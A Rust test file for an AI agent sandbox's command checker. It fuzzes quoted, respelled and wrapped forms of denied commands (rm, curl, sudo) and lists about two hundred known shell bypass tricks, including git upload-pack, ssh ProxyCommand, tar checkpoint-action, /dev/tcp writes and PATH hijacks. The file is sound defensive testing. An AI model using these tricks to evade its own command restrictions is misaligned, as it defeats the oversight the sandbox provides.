//! Denied commands in disguise: up to three random wrappings and spellings on top of each other.
//! None may be allowed.

use fastrand::Rng;
use open_agent_kernel::sandbox::checker::ParsedCommand;

use crate::support::denying;

const DENIED: [&str; 3] = ["rm", "curl", "sudo"];
const ROUNDS: usize = 2_000;

/// A denied command, plain.
fn plain(rng: &mut Rng) -> String {
    let commands = [
        "rm -rf build",
        "rm x",
        "curl https://x.example/i",
        "sudo -n id",
        "/bin/rm x",
    ];
    (*rng.choice(&commands).unwrap()).to_owned()
}

fn single(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

fn double(text: &str) -> String {
    let mut quoted = String::from("\"");
    for c in text.chars() {
        if matches!(c, '"' | '\\' | '$' | '`') {
            quoted.push('\\');
        }
        quoted.push(c);
    }
    quoted.push('"');
    quoted
}

fn quoted(rng: &mut Rng, text: &str) -> String {
    if rng.bool() || text.contains('\n') {
        single(text)
    } else {
        double(text)
    }
}

/// Another spelling of the first word.
fn respell(rng: &mut Rng, command: &str) -> String {
    let (word, rest) = command.split_once(' ').unwrap_or((command, ""));
    if !word
        .bytes()
        .all(|byte| byte.is_ascii_alphanumeric() || byte == b'/')
        || word.len() < 2
    {
        return command.to_owned();
    }
    let at = rng.usize(1..word.len());
    let (start, end) = word.split_at(at);
    let word = match rng.u8(0..10) {
        0 => format!("{start}''{end}"),
        1 => format!("\"{start}\"{end}"),
        2 => format!("{start}\\{end}"),
        3 => format!("\\{word}"),
        4 => format!("{start}\\\n{end}"),
        5 => format!(
            "$'{}'",
            word.bytes()
                .fold(String::new(), |text, byte| text + &format!("\\x{byte:02x}"))
        ),
        6 => format!(
            "$'{}'",
            word.bytes()
                .fold(String::new(), |text, byte| text + &format!("\\{byte:03o}"))
        ),
        7 => format!("{start}\"\"$'{end}'"),
        8 => format!("'{start}'\"{end}\""),
        _ => format!("/usr/../bin/./{}", word.rsplit('/').next().unwrap()),
    };
    format!("{word} {rest}")
}

/// Another way to run a script.
fn wrap_script(rng: &mut Rng, script: &str) -> String {
    let q = quoted(rng, script);
    match rng.u8(0..30) {
        0 => format!("bash -c {q}"),
        1 => format!("sh -c {q}"),
        2 => format!("/bin/dash -ec {q}"),
        3 => format!("eval {q}"),
        4 => format!("echo \"$({script})\""),
        5 => format!("x=$({script}\n)"),
        6 => format!("( {script} )"),
        7 => format!("{{ {script}\n}}"),
        8 => format!("if true; then {script}\nfi"),
        9 => format!("for i in 1 2; do {script}\ndone"),
        10 => format!("while false; do :; done; {script}"),
        11 => format!("true && {script}"),
        12 => format!("ls | {script}"),
        13 => format!("f() {{ {script}\n}}; f"),
        14 => format!("trap {q} EXIT"),
        15 => format!("cat <<END\n$({script}\n)\nEND"),
        16 => format!("bash <<'END_OF'\n{script}\nEND_OF"),
        17 => format!("cat <({script}\n)"),
        18 => format!("case a in *) {script}\n;; esac"),
        19 => format!("echo ${{x:-$({script}\n)}}"),
        20 => format!("watch -n1 {q}"),
        21 => format!("ssh host {q}"),
        22 => format!("su -c {q} nobody"),
        23 => format!("script -qc {q} /dev/null"),
        24 => format!("find . -exec sh -c {q} \\;"),
        25 => format!("ls | xargs -I{{}} sh -c {q}"),
        26 => format!("git -c alias.z={} z", quoted(rng, &format!("!{script}"))),
        27 => format!("tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec={q}"),
        28 => format!("alias ll={q}"),
        _ => format!("[[ -n $({script}\n) ]]"),
    }
}

/// Another way to run a command by its words.
fn wrap_words(rng: &mut Rng, command: &str) -> String {
    let prefixes = [
        "env",
        "env -i A=1",
        "env -u X -- ",
        "nohup",
        "nice -n 5",
        "timeout 5",
        "timeout -k 1 -s KILL 5s",
        "stdbuf -oL",
        "setsid",
        "command",
        "command -p",
        "exec",
        "exec -a ls",
        "xargs",
        "xargs -0 -n1",
        "time",
        "! ",
        "busybox",
        "doas -u root",
        "flock /tmp/l",
        "chroot /",
        "strace -f -o /dev/null",
        "find . -exec",
        "ionice -c 3",
        "A=1 B=2",
        "> out.txt",
        "2>/dev/null",
        "unshare -r",
        "fd -x",
        "bwrap --ro-bind / /",
        "git bisect run",
        "npx",
        "/usr/bin/env",
        "parallel",
        "coproc",
        "/lib64/ld-linux-x86-64.so.2",
        "\\env",
        "e''nv",
    ];
    let prefix = rng.choice(&prefixes).unwrap();
    format!("{prefix} {command}")
}

fn disguise(rng: &mut Rng) -> String {
    let mut command = plain(rng);
    let mut is_words = true;
    if rng.bool() {
        command = respell(rng, &command);
    }
    for _ in 0..=rng.usize(0..3) {
        if is_words && rng.bool() {
            command = wrap_words(rng, &command);
        } else {
            command = wrap_script(rng, &command);
            is_words = false;
        }
    }
    command
}

#[test]
fn no_disguise_of_a_denied_command_is_allowed() {
    let seed = std::env::var("CHECKER_SEED")
        .ok()
        .and_then(|seed| seed.parse().ok());
    let seed = seed.unwrap_or(20_251_201);
    let mut rng = Rng::with_seed(seed);
    let allowed: Vec<String> = (0..ROUNDS)
        .map(|_| disguise(&mut rng))
        .filter(|command| denying(&DENIED, command).is_ok())
        .collect();
    assert!(
        allowed.is_empty(),
        "seed {seed}: {} of {ROUNDS} are allowed:\n{}",
        allowed.len(),
        allowed
            .iter()
            .take(20)
            .cloned()
            .collect::<Vec<_>>()
            .join("\n---\n")
    );
}

/// The wrappings themselves are understood: with a harmless command inside most are allowed, so the
/// refusals above are about what is inside.
#[test]
fn the_same_disguises_of_a_harmless_command_are_mostly_allowed() {
    let mut rng = Rng::with_seed(7);
    let mut allowed = 0;
    for _ in 0..500 {
        let command = wrap_script(&mut rng, "ls build");
        allowed += usize::from(denying(&DENIED, &command).is_ok());
    }
    assert!(allowed > 400, "only {allowed} of 500 are allowed");
}

/// Attacks that the generator does not make.
const TRICKS: &[&str] = &[
    "X=rm; $X x",
    "X=rm; env $X x",
    "X='rm x'; eval \"$X\"",
    "X='rm x'; bash -c \"$X\"",
    "x=--upload-pack='rm x'; git fetch \"$x\" .",
    "git fetch \"$(printf -- --upload-pack=rm)\" .",
    "f() { git fetch \"$1\" .; }; f '--upload-pack=rm x'",
    "git rebase \"$(git rev-parse --exec)\" 'rm x'",
    "find . $(echo -delete)",
    "( ( rm x ) )",
    "(( rm x ) )",
    "( (rm x))",
    "echo $(( echo; rm x ))",
    "env A=$(rm x) ls",
    "a=rm; b=a; ${!b} x",
    "set -- rm x; \"$@\"",
    "read c <<< 'rm x'; $c",
    "rm x; rm() { :; }",
    "rm() { :; }; rm x",
    "if false; then rm() { :; }; fi; rm x",
    "echo &>f; {fd}>x rm y",
    "env {fd}>x rm y",
    "sh -c 'echo &>f rm x'",
    "sh -c '[[ x && rm y ]]'",
    "fish -c 'and rm x'",
    "zsh -c '=rm x'",
    "{ bash; } <<< 'rm x'",
    "echo 'rm x' | (bash)",
    "echo 'rm x' | while true; do bash; done",
    "echo rm | xargs env",
    "echo rm | xargs -I{} {} x",
    "echo '-delete' | xargs find .",
    "find . -exec env {} \\;",
    "cat <<EOF\n$\\\n(rm x)\nEOF",
    "BASH_CMDS[ls]=/bin/rm; ls x",
    "declare -A BASH_CMDS=([ls]=/bin/rm); ls x",
    "BASH_ALIASES[ls]='rm x'; ls",
    "read PATH <<< /tmp; ls",
    "for PATH in /tmp; do ls; done",
    "printf -v PATH /tmp; ls",
    "echo ${PATH:=/tmp}",
    "declare -n r=PATH; r=/tmp; ls",
    "X=/dev/tcp/h/1; cat f > $X",
    "X=/dev; cat f > $X/tcp/h/1",
    "eval -- 'rm x'",
    "source -- <(echo rm x)",
    "echo 'BEGIN{system(\"rm x\")}' | awk -f -",
    "echo 'BEGIN{system(\"rm x\")}' | awk -f /dev/stdin",
    "awk -f <(echo x) f",
    "echo 'e rm x' | sed -f - f",
    "echo 'e rm x' | sed -nf /dev/stdin f",
    "echo 'e rm x' | sed --file=- f",
    "echo 'a:;rm x' | make -f -",
    "echo '!rm x' | ed",
    "echo '!rm x' | dc",
    "echo 'syscmd(rm x)' | m4",
    "sqlite3 a.db '.shell rm x'",
    "psql -c '\\! rm x'",
    "python3 -m timeit 'import os; os.system(\"rm x\")'",
    "node --import 'data:text/javascript,x' a.js",
    "echo \"'; rm x; '\" | xargs -I{} sh -c \"echo '{}'\"",
    "echo 'a; rm x' | xargs -I% sh -c 'echo %'",
    "echo 'a; rm x' | xargs --replace=% sh -c 'echo %'",
    "find . -exec sh -c 'echo {}' \\;",
    "ls | xargs -I{} python3 -c 'print(\"{}\")'",
    "ls | parallel 'echo {.}; ls'",
    "source rm",
    "source r$u\"m\"",
    "bash r$1m",
    "F=rm; . \"$F\"",
    "bash rm",
    "echo `echo \\$(rm x)`",
    "echo \"`echo \\`rm x\\``\"",
    "echo $\"$(rm x)\"",
    "a=([$(rm x)]=1)",
    "echo ${a[$(rm x)]}",
    "echo $[ $(rm x) ]",
    "echo $((1 + $(rm x)))",
    "(( a[$(rm x)] ))",
    "((echo a); rm x)",
    "((cat <<E; rm x\nE\n) ; true)",
    "((cat <<rm; rm x\nrm\n) ; true)",
    "( ((cat <<rm; rm x\nrm\n) ; true) )",
    "echo $( ((cat <<rm; rm x\nrm\n) ; true) )",
    "cat <((cat <<rm; rm x\nrm\n) )",
    "echo $(( $(cat <<E\n)) ; rm x\nE\n) ))",
    "echo $[ $(cat <<E\n] ; rm x\nE\n) ]",
    "echo \"$(( r\"\"$'m' x ))\"",
    "!(rm x)",
    "time -p rm x",
    "time ! rm x",
    "cat < <(rm x)",
    "> \"$(rm x)\"",
    "echo a |& rm x",
    "ls\n\n\nrm x",
    "ls ;rm x",
    "ls&rm x",
    "case x in $(rm y)) ;; esac",
    "for i in $(rm x); do :; done",
    "for ((i=$(rm x);;)); do :; done",
    "select i in a; do rm x; done",
    "until rm x; do :; done",
    "function f { rm x; }; f",
    "f() ( rm x )",
    "env -S 'rm x'",
    "env -S'rm x'",
    "env --split-string='rm x'",
    "env -iS 'rm x'",
    "sudo -u nobody -- rm x",
    "xargs --max-args 1 rm",
    "timeout --signal KILL 5 rm x",
    "nice -5 rm x",
    "nice --adjustment=5 rm x",
    "awk 'BEGIN { print /\"/ | \"rm x\" }'",
    "awk 'BEGIN { \"rm x\" | getline y }'",
    "awk -f <(echo) '{print}' | rm x",
    "sed 's/a/b/;e rm x' f",
    "sed -e 'p' -e 'e rm x' f",
    "sed --expression='e rm x' f",
    "sed -n '/x/{e rm x\n}' f",
    "perl -ne 'system(\"rm x\")'",
    "perl -pe 's/a/`rm x`/e'",
    "python3 -Bc 'import os; os.system(\"rm x\")'",
    "python3.12 -c 'import os; os.popen(\"rm x\")'",
    "python3 <<'EOF'\nimport subprocess\nEOF",
    "node -pe 'require(\"child_process\")'",
    "ruby -ne '`rm x`'",
    "vim -c '!rm x'",
    "vim +'!rm x'",
    "less +'!rm x' f",
    "git -calias.z='!rm x' z",
    "git --config alias.z='!rm x' z",
    "git config alias.z '!rm x'",
    "git config core.pager 'rm x'",
    "git clone -c core.sshCommand='rm x' u",
    "git clone --upload-pack='rm x' u",
    "git clone 'ext::rm x'",
    "git rebase --exec 'rm x' HEAD~1",
    "git submodule foreach --recursive rm x",
    "git filter-branch --tree-filter 'rm x' HEAD",
    "git difftool -x 'rm x'",
    "tar --use-compress-prog='rm x' -xf a",
    "tar cIf 'rm x' a.tar b",
    "rsync --rsh='rm x' a b:",
    "ssh -oProxyCommand='rm x' h",
    "ssh h rm x",
    "socat - EXEC:'rm x'",
    "make SHELL='rm x'",
    "make --eval='$(shell rm x)'",
    "PAGER='rm x' man ls",
    "export GIT_PAGER='rm x'",
    "env GIT_EDITOR='rm x' git commit",
    "declare -x BASH_ENV=./x",
    "PATH=/tmp:$PATH ls",
    "cat /bin/rm > tool",
    "install /usr/bin/rm t",
    "dd if=/bin/rm of=t",
    "npm exec -- rm x",
    "pnpm exec rm x",
    "npx -c 'rm x'",
    "hyperfine 'rm x'",
    "flock -c 'rm x' /tmp/l",
    "entr -s 'rm x'",
    "mapfile -C 'rm x' a",
    "complete -C 'rm x' y",
    "trap -- 'rm x' EXIT",
    "source /dev/stdin <<< 'rm x'",
    ". <(echo rm x)",
    "bash /dev/stdin <<< 'rm x'",
    "bash -s <<< 'rm x'",
    "echo 'rm x' | bash < /dev/stdin",
    "echo 'rm x' | bash < /project/../dev/stdin",
    "echo 'rm x' | bash <&0",
    "F=/dev/stdin; echo 'rm x' | bash < $F",
    "echo 'rm x' | bash //dev/stdin",
    "bash --init-file x -c 'rm x'",
    "bash -o pipefail -c 'rm x'",
    "bash -xec 'rm x'",
    "[ -v 'a[$(rm x)]' ]",
    "test -v \"$y\"",
    "read -r 'a[$(rm x)]'",
    "unset 'a[$(rm x)]'",
    "printf -v'a[$(rm x)]' y",
    "export 'a[$(rm x)]=1'",
    "for a in 'x[$(rm y)]'; do echo $((a)); done",
    "history -c; fc -s",
    "enable -f ./x.so x",
    "shopt -s expand_aliases",
    "echo x | at now",
    "crontab -",
    "busybox sh -c 'rm x'",
    "ls \u{2028} rm",
];

#[test]
fn known_tricks_are_refused() {
    let allowed: Vec<&str> = TRICKS
        .iter()
        .filter(|command| denying(&DENIED, command).is_ok())
        .copied()
        .collect();
    assert!(
        allowed.is_empty(),
        "{} allowed:\n{}",
        allowed.len(),
        allowed.join("\n")
    );
}

/// Rules see what is inside wrappers, with one parse.
#[test]
fn a_parsed_command_lists_what_runs() {
    let parsed =
        ParsedCommand::parse("cd a && env A=1 timeout 5 npm run \"te st\" > out; echo $(git log)");
    assert!(parsed.is_understood(), "{:?}", parsed.findings);
    let shown: Vec<(String, String)> = parsed
        .commands
        .iter()
        .map(|command| (command.shown().join("|"), command.via.join(",")))
        .collect();
    for wanted in [
        ("cd|a", ""),
        ("timeout|5|npm|run|te st", "env"),
        ("npm|run|te st", "env,timeout"),
        ("echo|$(…)", ""),
        ("git|log", "$(…)"),
    ] {
        let wanted = (wanted.0.to_owned(), wanted.1.to_owned());
        assert!(
            shown.contains(&wanted),
            "{wanted:?} is missing in {shown:?}"
        );
    }
    assert_eq!(parsed.commands[1].redirects.len(), 1);
    assert!(!ParsedCommand::parse("$X y").is_understood());
}
